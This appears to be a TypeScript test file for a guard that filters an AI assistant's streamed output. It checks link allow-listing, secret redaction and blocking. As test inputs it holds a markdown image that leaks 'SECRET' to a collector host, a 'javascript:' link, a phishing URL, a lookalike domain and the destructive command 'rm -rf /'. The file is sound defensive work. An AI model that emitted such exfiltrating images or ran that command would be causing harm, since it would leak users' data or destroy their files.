import assert from "node:assert/strict";
import { hostAllowed, OutputGuard, type OutputAction } from "../../../server/src/guards/outputGuard";
import { DEFAULT_GUARD_SETTINGS, type GuardSettings } from "../../../server/src/guards/settings";

const settings: GuardSettings = { ...DEFAULT_GUARD_SETTINGS, guard: { linkAllowList: ["github.com"], bannedPatterns: ["rm -rf /"], injectionThreshold: 0.5 } };

/** Streams chunks through a guard and returns the shown text and the actions. */
function run(chunks: string[]): { text: string; actions: OutputAction[] } {
  const actions: OutputAction[] = [];
  const g = new OutputGuard(settings, (a) => actions.push(a));
  let text = "";
  for (const c of chunks) text += g.push(c);
  return { text: text + g.flush(), actions };
}

describe("guards/outputGuard", () => {
  it("allows hosts on the list and their subdomains, relative links, and nothing else", () => {
    assert.equal(hostAllowed("https://github.com/a/b", ["github.com"]), true);
    assert.equal(hostAllowed("https://api.github.com/x", ["github.com"]), true);
    assert.equal(hostAllowed("https://github.com.evil.io/x", ["github.com"]), false);
    assert.equal(hostAllowed("/docs/readme.md", ["github.com"]), true);
    assert.equal(hostAllowed("javascript:alert(1)", ["github.com"]), false);
  });

  it("neutralises an exfiltrating image even when it arrives split across chunks", () => {
    const { text, actions } = run(["Done. ![chart](https://coll", "ector.io/p.png?d=SECRET", ") and [docs](https://github.com/x)."]);
    assert.equal(text, "Done. [image removed: collector.io] and [docs](https://github.com/x).");
    assert.deepEqual(actions, [{ action: "neutralised", kind: "markdownImage", count: 1 }]);
  });

  it("turns a link to an unknown host into plain text", () => {
    assert.equal(run(["see [here](https://phish.example/login) now"]).text, "see here (link to phish.example removed) now");
  });

  it("redacts secrets in the answer, including a key split across chunks", () => {
    const { text, actions } = run(["Use AKIAZ3MSJV", "4WWNKWW5FG as the key."]);
    assert.equal(text, "Use [redacted AWS_ACCESS_KEY_ID] as the key.");
    assert.deepEqual(actions, [{ action: "redacted", kind: "secret", count: 1 }]);
  });

  it("leaves placeholders for the unredact stage and personal data alone", () => {
    assert.equal(run(["Mail [EMAIL_1] or bob@globex.com"]).text, "Mail [EMAIL_1] or bob@globex.com");
  });

  it("blocks configured banned patterns", () => {
    const { text, actions } = run(["then run rm -rf / to clean"]);
    assert.equal(text, "then run [blocked by policy] to clean");
    assert.deepEqual(actions, [{ action: "blocked", kind: "bannedPattern", count: 1 }]);
  });

  it("holds back an unfinished private key block until its END line", () => {
    const body = "MIIEowIBAAKCAQEAx3k9Zq8v2W5nR7tY1pL0cF4hJ6mK9sD2gB5vN8xQ1wE3rT7y";
    const actions: OutputAction[] = [];
    const g = new OutputGuard(settings, (a) => actions.push(a));
    assert.equal(g.push("key:\n-----BEGIN PRIVATE KEY-----\n"), "key:\n");
    assert.equal(g.push(`${body}\n`), "");
    assert.equal(g.push("-----END PRIVATE KEY-----\n") + g.flush(), "[redacted PRIVATE_KEY]\n");
  });
});
